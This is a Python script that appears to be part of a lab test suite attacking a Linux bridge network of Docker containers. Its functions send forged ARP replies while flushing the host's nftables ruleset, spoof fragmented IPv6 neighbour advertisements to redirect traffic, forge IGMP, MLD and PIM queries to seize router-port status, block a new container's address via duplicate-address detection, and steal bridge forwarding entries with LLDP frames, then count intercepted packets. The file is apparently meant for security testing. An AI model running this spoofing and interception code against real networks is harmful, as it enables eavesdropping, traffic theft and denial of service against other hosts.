#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""usage: bind_holes_more.py TRY NAME MAC IPV4 IPV6 COMMAND...     see bind_holes_more.sh"""
import os
import re
import struct
import subprocess
import sys
import time

import packet as p
from bind_attack import BRIDGE, C2, DOCKSIDE, GATEWAY, GOOD, Lab, Witness
from bind_holes import LINK_LOCAL_GROUP, NA, NS, datagram, fdb, fragments, message, neighbour, run, seen


def flushed(lab):
    """The rules are gone for a moment; poison that is sent all the time works on after they are back."""
    me = lab.me["mac"]
    daemon, window = os.environ["DAEMON"], float(os.environ.get("WINDOW", "0"))
    s = datagram("host", GATEWAY[4])
    s.sendto(b"first", (C2[4], 81))
    time.sleep(0.2)
    command = f"sleep 2; nft flush ruleset; sleep {window}; kill -CONT {daemon}"
    if window:
        os.kill(int(daemon), 19)
    subprocess.Popen(command, shell=True)
    end = time.monotonic() + 3 + window
    while time.monotonic() < end:
        lab.port.send(p.ether(me, lab.gateway_mac, p.arp(2, (me, C2[4]), (lab.gateway_mac, GATEWAY[4]), b""), p.ARP))
        lab.port.send(p.ether(me, C2["mac"], p.arp(2, (me, DOCKSIDE[4]), (C2["mac"], C2[4]), b""), p.ARP))
    yield "the table is there again", int("bridge dockside" in run("nft", "list", "tables"))
    print("#", run("ip", "neigh", "show", C2[4], "dev", BRIDGE), file=sys.stderr)
    for after in (0, 5, 10, 15):
        time.sleep(after)
        marker = lab.mark()
        lab.witness["c1"].forget()
        s.sendto(marker, (C2[4], 81))
        yield f"window {window}: {after} s later: host to neighbour, read", seen(lab.witness["c1"], marker)


def middle(lab):
    """After an advertisement in fragments the host sends what is for c2 to c1."""
    me, mine = lab.me["mac"], lab.me[6]
    lab.heal()
    victim, outside = datagram("c2", C2[6]), datagram("outside", GOOD[6], 53)
    victim.sendto(b"question", (GOOD[6], 53))
    _, back = outside.recvfrom(100)
    outside.sendto(b"first answer", back)
    victim.recv(100)
    for packet in fragments(message(mine, GATEWAY[6], NA, struct.pack("!I", 0x60000000) + p.packed(C2[6]) + p.own_link(2, me)), 8, ident=900 + lab.serial):
        lab.port.send(p.ether(me, lab.gateway_mac, packet))
    time.sleep(0.1)
    marker = lab.mark()
    lab.witness["c1"].forget()
    for _ in range(3):
        outside.sendto(marker, back)
    yield "after NA in fragments: the outside's answers to c2, read", seen(lab.witness["c1"], marker)
    # Published port of dockside or c1's neighbour: what the host's own proxy or a client outside sends.
    run("ip", "-6", "neigh", "flush", "dev", BRIDGE)


def routers(lab):
    """Packets that make the bridge take a port for a router's."""
    me, mine, fe80 = lab.me["mac"], lab.me[4], p.link_local(lab.me["mac"])
    port = fdb(me)
    alert4 = b"\x94\4\0\0"

    def ip4(target, proto, body, ttl=1):
        head = struct.pack("!BBHHHBBH", 0x46, 0xc0, 24 + len(body), 1, 0, ttl, proto, 0) + p.packed(mine) + p.packed(target) + alert4
        return head[:10] + struct.pack("!H", p.checksum(head)) + head[12:] + body

    def sums(body):
        return body[:2] + struct.pack("!H", p.checksum(body)) + body[4:]
    alert = bytes([p.ICMP6, 0, 5, 2, 0, 0, 1, 0])
    kinds = {
        "IGMPv2 query": p.ether(me, "01:00:5e:00:00:01", ip4("224.0.0.1", 2, sums(b"\x11\x01\0\0\0\0\0\0"))),
        "IGMPv3 query": p.ether(me, "01:00:5e:00:00:01", ip4("224.0.0.1", 2, sums(b"\x11\x01\0\0\0\0\0\0\2\x7d\0\0"))),
        "IGMP MRD": p.ether(me, "01:00:5e:00:00:6a", ip4("224.0.0.106", 2, sums(b"\x30\x14\0\0\0\0\0\0"))),
        "PIM hello": p.ether(me, "01:00:5e:00:00:0d", ip4("224.0.0.13", 103, sums(b"\x20\0\0\0\0\1\0\2\0\x69"))),
        "MLD query": p.ether(me, "33:33:00:00:00:01", p.icmp6(fe80, "ff02::1", 130, struct.pack("!HH", 1000, 0) + bytes(16), ttl=1, options=alert)),
        "MLD MRD": p.ether(me, "33:33:00:00:00:6a", p.icmp6(fe80, "ff02::6a", 151, bytes(4), ttl=1, options=alert)),
    }
    for name, frame in kinds.items():
        for value in ("0", "1"):    # 0 forgets, 1 learns
            run("ip", "link", "set", port, "type", "bridge_slave", "mcast_router", value)
        lab.port.send(frame)
        time.sleep(0.05)
        yield name, int(port in "".join(re.findall(r"router ports on .*", run("bridge", "-d", "mdb", "show", "dev", BRIDGE))))
    for value in ("0", "1"):
        run("ip", "link", "set", port, "type", "bridge_slave", "mcast_router", value)


def dad_start(lab):
    """A neighbour that starts, while c1 asks for its addresses all the time."""
    me, ether = lab.me["mac"], "02:00:00:00:01:15"
    docker = os.environ["DOCKER_HOST"].removeprefix("unix://")
    engine = os.path.join(os.path.dirname(os.path.abspath(__file__)), "engine.py")
    started = subprocess.Popen(["python3", engine, docker, "run", "c5", BRIDGE, "172.30.1.15", "fd77:1::15", ether],
                               stdout=subprocess.DEVNULL)
    end = None
    while end is None or time.monotonic() < end:
        for target in (p.link_local(ether), "fd77:1::15"):
            group, to = p.solicited(target)
            lab.port.send(p.ether(me, to, p.icmp6("::", group, NS, bytes(4) + p.packed(target))))
        time.sleep(0.02)
        if end is None and started.poll() is not None:
            end = time.monotonic() + 3
    pid = run("docker", "inspect", "-f", "{{.State.Pid}}", "c5").strip()
    said = run("nsenter", f"--net=/proc/{pid}/ns/net", "ip", "-6", "addr", "show", "dev", "eth0")
    print("#", said.replace("\n", "\n# "), file=sys.stderr)
    yield "a neighbour that starts loses an address", said.count("dadfailed")
    run("docker", "rm", "-f", "c5")


def offline(lab):
    """Theft that is repeated: how many packets of a neighbour's flow get lost."""
    victim, outside = datagram("dockside", DOCKSIDE[4]), datagram("outside", GOOD[4], 53)
    outside.sendto(b"", ("192.0.2.1", 9))
    victim.sendto(b"question", (GOOD[4], 53))
    _, back = outside.recvfrom(100)
    for steal in (False, True):
        lost = read = 0
        marker = lab.mark()
        lab.witness["c1"].forget()
        victim.settimeout(0.05)
        for _ in range(20):
            victim.sendto(b"question", (GOOD[4], 53))
            if steal:
                lab.port.send(p.ether(DOCKSIDE["mac"], LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
                time.sleep(0.005)
            outside.sendto(marker, back)
            try:
                victim.recv(100)
            except TimeoutError:
                lost += 1
        read = seen(lab.witness["c1"], marker)
        yield f"{'stealing' if steal else 'control'}: of 20 answers to the dockside container read by c1, {lost} lost", read


def unknown(lab):
    """From a port that is not known."""
    me, mine6 = lab.me["mac"], lab.me[6]
    host_fe80 = p.link_local(lab.gateway_mac)

    def na(source, target):
        return lambda m: p.ether(me, C2["mac"], p.icmp6(source, C2[6], NA, struct.pack("!I", 0x60000000) + p.packed(target) + p.own_link(2, me) + p.nd_option(m)))
    yield "NA of the host's fe80", lab.arrive(na(mine6, host_fe80), ["c2"])
    yield "NA of the host's fe80 from itself", lab.arrive(na(host_fe80, host_fe80), ["c2"])
    lab.heal()
    before = fdb(C2["mac"])
    lab.port.send(p.ether(C2["mac"], LINK_LOCAL_GROUP % 14, bytes(60), 0x88CC))
    time.sleep(0.05)
    yield "fdb theft", int(fdb(C2["mac"]) != before)
    lab.heal()


def main():
    which, name, ether, address, address6, *command = sys.argv[1:]
    lab = Lab(name, {"mac": ether, 4: address, 6: address6}, command, True)
    if name == "c1":
        lab.witness["c1"] = Witness("c1", "eth0")
    for what, count in globals()[which](lab):
        print(which, what, count, sep="\t", flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
